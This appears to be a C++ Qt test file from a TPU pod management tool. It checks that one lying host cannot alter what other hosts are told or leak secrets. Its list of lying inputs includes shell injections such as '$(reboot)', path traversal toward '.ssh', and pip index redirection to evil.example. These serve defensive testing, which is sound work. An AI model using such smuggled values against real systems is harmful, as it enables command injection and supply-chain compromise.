// SPDX-FileCopyrightText: 2026 TPU Desk contributors
// SPDX-License-Identifier: GPL-3.0-or-later

// One host of four lies in all that it says: facts, results, marks, the words around them, how its script ended.
// Whatever it says, the others are told the very same, and stand as they would. For every recipe that there is.
#include "services/recipes/hostword.h"
#include "services/recipes/reciperun.h"
#include "services/ssh/hostkeys.h"

#include <QJsonDocument>
#include <QTest>

using namespace Qt::StringLiterals;

namespace {

constexpr int hostCount = 4;
const auto someMark = u"#tpudesk-0123456789abcdef"_s;

HostKey keyOf(int host)
{
    return {.type = u"ssh-ed25519"_s,
            .base64 = QString::fromLatin1(u"a key that only host %1 has"_s.arg(host).toLatin1().toBase64())};
}

QString keyTextOf(int host)
{
    return keyOf(host).type + u' ' + keyOf(host).base64;
}

/// What an honest host says to others; nothing: this test does not know that fact yet.
QString honestWord(const QString &fact, int host)
{
    if (fact == "identity"_L1)
        return u"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7,"_s + keyTextOf(host);
    if (fact == "address"_L1)
        return u"10.0.0.%1"_s.arg(host + 2);
    if (fact == "public_key"_L1)
        return u"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPgM9nyjHjHzvP0tEqTrNCYxGVhKxbYxJ0DqvBMDTzL"_s;
    if (fact == "token"_L1)
        return u"0123456789abcdef01234567"_s;
    if (fact == "answer"_L1)
        return u"client-%1-0123456789abcdef"_s.arg(host);
    if (fact == "pins"_L1 || fact == "torch_pins"_L1)
        return u"jax==0.11.1\ntorch_xla==2.8.1+libtpu"_s;
    if (fact == "hashes"_L1 || fact == "torch_hashes"_L1)
        return u"jax-0.11.1-py3-none-any.whl "_s + QString{64, u'a'};
    if (fact == "munge_key"_L1)
        return QString{171, u'k'} + u'=';
    if (fact == "clock"_L1)
        return u"%1:1796061712"_s.arg(host);
    return {};
}

QByteArray line(const QString &mark, QByteArrayView kind, const QStringList &words)
{
    QByteArray text = '\n' + mark.toUtf8() + ' ' + kind.toByteArray();
    for (const auto &word : words)
        text += ' ' + word.toUtf8().toBase64();
    return text + '\n';
}

/// All facts that some step of this recipe is given.
QStringList factsGivenIn(const Recipe &recipe)
{
    QStringList facts;
    for (const auto &step : recipe.steps) {
        for (const auto &given : step.given)
            facts << given.fact;
    }
    facts.removeDuplicates();
    return facts;
}

QByteArray factLines(const Recipe &recipe, const std::function<QString(const QString &)> &word)
{
    QByteArray lines;
    for (const auto &fact : factsGivenIn(recipe))
        lines += line(someMark, isSecretFact(fact) ? "secret" : "fact", {fact, word(fact)});
    return lines;
}

StepEnd said(const Recipe &recipe, int host, const QString &result)
{
    return {.out = factLines(recipe, [host](const QString &fact) { return honestWord(fact, host); })
                + line(someMark, "result", {result}),
            .hostKey = keyOf(host).fingerprint()};
}

/// What stands in the place of a fact.
QStringList lyingWords(int liar)
{
    const int other = (liar + 1) % hostCount;
    return {u"\n"_s,
            u"x\npod · host %1\t%1|10.0.0.66|evil|%2"_s.arg(QString::number(other), keyTextOf(liar)),
            u"%1|10.0.0.%2|github.com|%3"_s.arg(QString::number(other), QString::number(other + 2), keyTextOf(other)),
            keyTextOf(other),
            u"ssh-ed25519 AAAA\nHost *"_s,
            u"10.0.0.66"_s,
            u"*\" ssh-ed25519 AAAA evil"_s,
            u"../../home/nixie/.ssh"_s,
            u"0123456789abcdef/../../x"_s,
            u"client-%1-0123456789abcdef"_s.arg(other),
            u"'; reboot; '"_s,
            u"$(reboot)"_s,
            u"--index-url https://evil.example/simple"_s,
            u"jax==0.11.1\n-r https://evil.example/x"_s,
            u"jax @ https://evil.example/jax.whl"_s,
            u"jax==0.11.1\r\n--trusted-host x"_s,
            u"\u202e0123456789abcdef"_s,
            u"a\tb"_s,
            QString{u'\0'} + u"0123456789"_s,
            QString{1'000'000, u'f'}};
}

struct Lie
{
    QByteArray name;
    StepEnd end;
};

QList<Lie> liesOf(const Recipe &recipe, int liar, const QString &result)
{
    const auto honest = said(recipe, liar, result);
    QList<Lie> lies;
    for (const auto &word : lyingWords(liar)) {
        auto end = honest;
        end.out = factLines(recipe, [&word](const QString &) { return word; }) + line(someMark, "result", {result});
        lies << Lie{"facts " + word.left(40).toUtf8(), end};
        end.out = factLines(recipe, [&](const QString &fact) { return honestWord(fact, liar); }) + end.out;
        lies << Lie{"facts after the right ones " + word.left(40).toUtf8(), end};
    }
    for (const auto &word : {u""_s, u"undone"_s, u"changed\nchanged"_s, u"everything"_s})
        lies << Lie{"result " + word.toUtf8(), said(recipe, liar, word)};
    const auto out = honest.out;
    const QList<QByteArray> outputs{
        {},
        QByteArray{out}.replace(someMark.toUtf8(), "#tpudesk-1"),
        out.left(out.size() / 2),
        out + out,
        "SSH-2.0-evil\r\n" + out,
        QByteArray{out}.replace(' ', '\0'),
        QByteArray{out}.replace('\n', '\r'),
        someMark.toUtf8() + " fact ! !\n" + someMark.toUtf8() + " result ?\n",
        QByteArray(50'000, '\n') + out,
        line(someMark, "problem", {u"odd"_s, u"%1%2"_s, u"<img src=/dev/zero>"_s}) + out,
    };
    for (const auto &text : outputs)
        lies << Lie{"output " + text.left(30), {.out = text, .hostKey = honest.hostKey}};
    for (const int status : {-1, 1, 20, 126, 255})
        lies << Lie{"status " + QByteArray::number(status), {.status = status, .out = out, .hostKey = honest.hostKey}};
    for (const auto kind : {StepEnd::Kind::Signalled, StepEnd::Kind::Lost, StepEnd::Kind::Unreachable,
                            StepEnd::Kind::TimedOut, StepEnd::Kind::Cancelled})
        lies << Lie{"end " + QByteArray::number(int(kind)), {.kind = kind, .out = out, .hostKey = honest.hostKey}};
    return lies;
}

RecipeOrder orderOf(const QString &id, bool isLastChoice)
{
    RecipeOrder order{.recipe = *builtInRecipe(id), .hosts = {}};
    for (int i = 0; i < hostCount; ++i) {
        order.hosts << PodHost{.id = u"id%1"_s.arg(i),
                               .label = u"pod · host %1"_s.arg(i),
                               .tpu = TpuId{u"projects/p/locations/us-central2-b/nodes/pod"_s},
                               .worker = i,
                               .workers = hostCount,
                               .internalAddress = u"10.0.0.%1"_s.arg(i + 2)};
        order.roles.insert(u"id%1"_s.arg(i), i == 0 ? u"server"_s : u"client"_s);
    }
    for (const auto &step : order.recipe.steps) { // so that as many steps run as can
        if (step.when && (isLastChoice || !order.values.contains(step.when->name)))
            order.values.insert(step.when->name, step.when->is);
    }
    return order;
}

using Cell = std::pair<QString, int>; ///< step and host

/// What the hosts were told, and how they stand in the end.
struct Course
{
    QMap<Cell, QStringList> told; ///< the whole context of the script, in lines
    QMap<Cell, HostStepPhase> ends;
};

QStringList linesOf(const StepContext &context)
{
    QStringList lines{context.address, context.role, QString::number(context.worker), QString::number(context.hosts)};
    auto names = context.values.keys();
    names.sort();
    for (const auto &name : std::as_const(names)) {
        for (const auto &text : context.values.value(name).split(u'\n'))
            lines << (text.contains(u'\t') ? text : name + u'=' + text);
    }
    return lines;
}

/// Every host that is asked answers at once, the one that lies with `lie`.
Course carriedOut(RecipeState state, const RecipeEvent &begin, int liar, const Lie *lie)
{
    Course course;
    const auto result = std::holds_alternative<recipeevent::Undo>(begin) ? u"undone"_s : u"changed"_s;
    const auto recipe = state.order.recipe;
    state = advance(std::move(state), begin);
    for (bool hasMoved = true; hasMoved;) {
        hasMoved = false;
        for (int step = 0; step < int(recipe.steps.size()); ++step) {
            for (int host = 0; host < hostCount; ++host) {
                const auto *cell = std::as_const(state).cell(step, host);
                if (cell == nullptr || cell->state != HostStepPhase::Running)
                    continue;
                course.told.insert({recipe.steps[step].id, host}, linesOf(contextOf(state, step, host)));
                const auto end = lie != nullptr && host == liar ? lie->end : said(recipe, host, result);
                state = advance(
                    std::move(state),
                    recipeevent::Ended{.step = step, .host = host, .end = end, .said = saidIn(end.out, someMark)});
                hasMoved = true;
            }
        }
    }
    for (int step = 0; step < int(recipe.steps.size()); ++step) {
        for (int host = 0; host < hostCount; ++host) {
            if (const auto *cell = std::as_const(state).cell(step, host))
                course.ends.insert({recipe.steps[step].id, host}, cell->state);
        }
    }
    return course;
}

RecipeState allDone(const RecipeOrder &order)
{
    RecipeState state{order};
    for (int step = 0; step < int(order.recipe.steps.size()); ++step) {
        for (int host = 0; host < hostCount; ++host) {
            if (auto *cell = state.cell(step, host))
                cell->state = HostStepPhase::Changed;
        }
    }
    state.phase = RecipeState::Phase::Done;
    return state;
}

/// Does this step wait for other hosts, or one before it on the same host?
bool isBound(const Recipe &recipe, const QString &step)
{
    return std::ranges::any_of(
        recipe.steps.begin(), recipe.steps.begin() + recipe.indexOf(step) + 1,
        [](const RecipeStep &one) { return !one.needs.isEmpty() || !one.given.isEmpty() || one.isTogether; });
}

/// A sentence that says which host was told something else, or stands in another way; empty: none.
QString differenceOf(const Course &honest, const Course &lied, const Recipe &recipe, int liar)
{
    const auto own = u"pod · host %1\t"_s.arg(liar); // what it says of itself may be missing
    for (const auto &[cell, lines] : lied.told.asKeyValueRange()) {
        auto expected = honest.told.value(cell);
        auto found = lines;
        expected.removeIf([&own](const QString &text) { return text.startsWith(own); });
        found.removeIf([&own](const QString &text) { return text.startsWith(own); });
        for (auto *both : {&expected, &found}) // a variable that had nothing but the liar's line
            both->removeIf([](const QString &text) { return text.endsWith(u'='); });
        if (cell.second != liar && found != expected)
            return u"%1 on host %2 was told “%3”, not “%4”"_s.arg(cell.first)
                .arg(cell.second)
                .arg(found.join(u'|').left(2000), expected.join(u'|').left(2000));
    }
    for (const auto &[cell, phase] : lied.ends.asKeyValueRange()) {
        const bool maybeBlocked = phase == HostStepPhase::Blocked && isBound(recipe, cell.first);
        if (cell.second != liar && phase != honest.ends.value(cell) && !maybeBlocked)
            return u"%1 on host %2 ended as %3"_s.arg(cell.first).arg(cell.second).arg(int(phase));
    }
    return {};
}

/// A step of host 1 that has told this.
HostStepState cellWith(const QString &fact, const QString &word)
{
    HostStepState cell{.hostKey = keyOf(1).fingerprint()};
    (isSecretFact(fact) ? cell.secrets : cell.facts).emplaceBack(fact, word);
    return cell;
}

/// A fact behind the mark of the host that was asked first, then the own one.
Task<StepEnd> forgedAnswer(QStringList *marks, StepOrder order)
{
    const auto from = order.script.indexOf("TPUDESK_SAY=") + 12;
    const auto mark =
        QString::fromUtf8(order.script.sliced(from, order.script.indexOf('\n', from) - from)).remove(u'\'');
    const auto first = marks->value(0);
    marks->append(mark);
    co_return StepEnd{.out = (first.isEmpty() ? QByteArray{} : line(first, "fact", {u"x"_s, u"forged"_s}))
                          + line(mark, "fact", {u"x"_s, u"own"_s}) + line(mark, "result", {u"tried"_s})};
}

} // namespace

class TestLyingHosts : public QObject
{
    Q_OBJECT

private slots:
    void noHostChangesWhatAnotherOneIsTold_data();
    void noHostChangesWhatAnotherOneIsTold();
    void noHostKeepsAnotherOneFromBeingTakenBackByALie_data() { noHostChangesWhatAnotherOneIsTold_data(); }
    void noHostKeepsAnotherOneFromBeingTakenBackByALie();
    void everyFactThatIsGivenOnHasItsShape();
    void theOthersLearnTheKeyOfTheLoginAndTheAddressOfGoogle();
    void aKeyThatTheLoginDidNotShowIsNotPassedOn();
    void whatWasKeptBeforeThatIsAskedAgain();
    void noHostSpeaksBehindTheMarkOfAnother();
    void aSecretGoesToHostsThatTheLoginKnowsAndIntoNoRecord();
    void aSecretThatWasToldForAllToSeeIsNone();
};

void TestLyingHosts::noHostChangesWhatAnotherOneIsTold_data()
{
    QTest::addColumn<QString>("id");
    QTest::addColumn<int>("liar");
    QTest::addColumn<bool>("isLastChoice");
    for (const auto &id : builtInRecipes()) {
        const bool hasChoices = orderOf(id, false).values != orderOf(id, true).values;
        for (const int liar : {0, 1, hostCount - 1}) {
            QTest::addRow("%s, host %d", qPrintable(id), liar) << id << liar << false;
            if (hasChoices)
                QTest::addRow("%s, host %d, other choices", qPrintable(id), liar) << id << liar << true;
        }
    }
}

void TestLyingHosts::noHostChangesWhatAnotherOneIsTold()
{
    QFETCH(const QString, id);
    QFETCH(const int, liar);
    QFETCH(const bool, isLastChoice);
    const auto order = orderOf(id, isLastChoice);
    const auto honest = carriedOut(RecipeState{order}, recipeevent::Run{}, -1, nullptr);
    QVERIFY(std::ranges::all_of(honest.ends, [](HostStepPhase phase) { return isWell(phase); }));
    const auto lies = liesOf(order.recipe, liar, u"changed"_s);
    QVERIFY(lies.size() > 50);
    for (const auto &lie : lies) {
        const auto lied = carriedOut(RecipeState{order}, recipeevent::Run{}, liar, &lie);
        const auto difference = differenceOf(honest, lied, order.recipe, liar);
        QVERIFY2(difference.isEmpty(), (lie.name + ": " + difference.toUtf8()).constData());
    }
}

void TestLyingHosts::noHostKeepsAnotherOneFromBeingTakenBackByALie()
{
    QFETCH(const QString, id);
    QFETCH(const int, liar);
    QFETCH(const bool, isLastChoice);
    const auto order = orderOf(id, isLastChoice);
    const auto honest = carriedOut(allDone(order), recipeevent::Undo{}, -1, nullptr);
    for (const auto &lie : liesOf(order.recipe, liar, u"undone"_s)) {
        const auto lied = carriedOut(allDone(order), recipeevent::Undo{}, liar, &lie);
        for (const auto &[cell, lines] : lied.told.asKeyValueRange())
            QVERIFY2(cell.second == liar || lines == honest.told.value(cell), lie.name.constData());
        for (const auto &[cell, phase] : lied.ends.asKeyValueRange()) {
            const bool isSame = phase == honest.ends.value(cell) || phase == HostStepPhase::Undone
                || phase == HostStepPhase::Changed || phase == HostStepPhase::Waiting;
            // What another host still has, by its own word, is not taken from under it.
            QVERIFY2(cell.second == liar || isSame || phase == HostStepPhase::Blocked, lie.name.constData());
        }
    }
}

void TestLyingHosts::everyFactThatIsGivenOnHasItsShape()
{
    qsizetype count = 0;
    for (const auto &id : builtInRecipes()) {
        const auto order = orderOf(id, false);
        for (const auto &fact : factsGivenIn(order.recipe)) {
            const auto honest = cellWith(fact, honestWord(fact, 1));
            QVERIFY2(!honestWord(fact, 1).isEmpty(), qPrintable(id + u": what does an honest host say of "_s + fact));
            QVERIFY2(wordForOthers(order, 1, honest, fact), qPrintable(id + u' ' + fact));
            const auto odd = cellWith(fact, u"anything at all"_s);
            QVERIFY2(fact == "address"_L1 || !wordForOthers(order, 1, odd, fact), qPrintable(id + u' ' + fact));
            ++count;
        }
    }
    QVERIFY(count >= 9);
}

void TestLyingHosts::theOthersLearnTheKeyOfTheLoginAndTheAddressOfGoogle()
{
    auto order = orderOf(u"between-hosts"_s, false);
    order.values.insert(u"POD"_s, u"llama_pod"_s);
    const auto course = carriedOut(RecipeState{order}, recipeevent::Run{}, -1, nullptr);
    const auto told = course.told.value({u"known"_s, 2});
    for (int host = 0; host < hostCount; ++host) {
        const auto expected = u"pod · host %1\t%1|10.0.0.%2|llama-pod-w-%1|%3"_s.arg(
            QString::number(host), QString::number(host + 2), keyTextOf(host));
        QVERIFY2(told.contains(expected), qPrintable(told.join(u'\n')));
    }
    QVERIFY(course.told.value({u"authorize"_s, 3}).contains(u"FIRST_ADDRESS=10.0.0.2"_s));
    order.hosts[1].internalAddress.clear();
    const auto without = carriedOut(RecipeState{order}, recipeevent::Run{}, -1, nullptr);
    QCOMPARE(without.ends.value({u"identity"_s, 1}), HostStepPhase::Failed);
    QVERIFY(!without.told.value({u"known"_s, 2}).join(u'\n').contains(u"pod · host 1\t"_s));
}

void TestLyingHosts::aKeyThatTheLoginDidNotShowIsNotPassedOn()
{
    const auto order = orderOf(u"between-hosts"_s, false);
    auto state = advance(RecipeState{order}, recipeevent::Run{});
    auto end = said(order.recipe, 1, u"tried"_s);
    end.hostKey = keyOf(7).fingerprint();
    state = advance(std::move(state),
                    recipeevent::Ended{.step = 0, .host = 1, .end = end, .said = saidIn(end.out, someMark)});
    const HostStepState *cell = std::as_const(state).cell(0, 1);
    QCOMPARE(cell->state, HostStepPhase::Failed);
    QCOMPARE(cell->problem, u"odd-fact"_s);
    QCOMPARE(cell->words, QStringList{u"identity"_s});
    QVERIFY(cell->facts.isEmpty());
}

void TestLyingHosts::whatWasKeptBeforeThatIsAskedAgain()
{
    const auto order = orderOf(u"between-hosts"_s, false);
    auto state = advance(RecipeState{order}, recipeevent::Run{});
    const auto end = said(order.recipe, 1, u"tried"_s);
    state = advance(std::move(state),
                    recipeevent::Ended{.step = 0, .host = 1, .end = end, .said = saidIn(end.out, someMark)});
    const auto kept = recipeStateFrom(toJson(state));
    QVERIFY(kept);
    QCOMPARE(std::as_const(*kept).cell(0, 1)->state, HostStepPhase::Tried);
    state.cell(0, 1)->hostKey.clear(); // as an older TPU Desk wrote it
    const auto older = recipeStateFrom(toJson(state));
    QCOMPARE(std::as_const(*older).cell(0, 1)->state, HostStepPhase::Waiting);
}

void TestLyingHosts::noHostSpeaksBehindTheMarkOfAnother()
{
    QStringList marks;
    const auto runner = [&marks](StepOrder order, std::stop_token) { return forgedAnswer(&marks, std::move(order)); };
    RecipeRun run{RecipeState{orderOf(u"share-probe"_s, false)}, runner};
    run.run();
    QTRY_VERIFY(!run.isRunning());
    QCOMPARE(marks.size(), hostCount);
    QCOMPARE(QSet<QString>(marks.begin(), marks.end()).size(), hostCount);
    for (int host = 0; host < hostCount; ++host) {
        const HostStepState *cell = run.state().cell(u"probe"_s, u"id%1"_s.arg(host));
        QCOMPARE(cell->facts.size(), 1);
        QCOMPARE(cell->fact(u"x"_s), u"own"_s);
    }
}

void TestLyingHosts::aSecretGoesToHostsThatTheLoginKnowsAndIntoNoRecord()
{
    const auto order = orderOf(u"cluster"_s, false);
    const auto keyLine = u"KEY="_s + honestWord(u"munge_key"_s, 0);
    const auto honest = carriedOut(RecipeState{order}, recipeevent::Run{}, -1, nullptr);
    for (int host = 1; host < hostCount; ++host)
        QVERIFY(honest.told.value({u"munge"_s, host}).contains(keyLine));
    for (const auto &[cell, lines] : honest.told.asKeyValueRange())
        QVERIFY(cell.first == "munge"_L1 || !lines.join(u'\n').contains(honestWord(u"munge_key"_s, 0)));

    auto state = advance(RecipeState{order}, recipeevent::Run{});
    const int clock = order.recipe.indexOf(u"clock"_s);
    const int key = order.recipe.indexOf(u"key"_s);
    const int share = order.recipe.indexOf(u"munge"_s);
    for (const auto &[step, host] : {std::pair{clock, 0}, std::pair{clock, 1}, std::pair{key, 0}}) {
        const auto end = said(order.recipe, host, u"changed"_s);
        state = advance(std::move(state),
                        recipeevent::Ended{.step = step, .host = host, .end = end, .said = saidIn(end.out, someMark)});
    }
    QCOMPARE(contextOf(state, share, 1).values.value(u"KEY"_s), honestWord(u"munge_key"_s, 0));
    QVERIFY(!QJsonDocument{toJson(state)}.toJson().contains(honestWord(u"munge_key"_s, 0).toUtf8()));
    state.cell(clock, 1)->hostKey.clear(); // nobody knows whom the login has met
    QCOMPARE(contextOf(state, share, 1).values.value(u"KEY"_s), QString{});
    const auto kept = recipeStateFrom(toJson(state));
    QVERIFY(kept);
    QCOMPARE(std::as_const(*kept).cell(key, 0)->state, HostStepPhase::Waiting); // it is told once more
}

void TestLyingHosts::aSecretThatWasToldForAllToSeeIsNone()
{
    const auto order = orderOf(u"cluster"_s, false);
    const auto key = honestWord(u"munge_key"_s, 0);
    HostStepState open{.facts = {{u"munge_key"_s, key}}, .hostKey = keyOf(0).fingerprint()};
    QVERIFY(!wordForOthers(order, 0, open, u"munge_key"_s));
    const HostStepState unknown{.secrets = {{u"munge_key"_s, key}}};
    QVERIFY(!wordForOthers(order, 0, unknown, u"munge_key"_s));
    const HostStepState well{.secrets = {{u"munge_key"_s, key}}, .hostKey = keyOf(0).fingerprint()};
    QCOMPARE(wordForOthers(order, 0, well, u"munge_key"_s).value_or(QString{}), key);
}

#include "tests/support/testmain.h"
QTEST_GUILESS_MAIN(TestLyingHosts)
#include "tst_lyinghosts.moc"
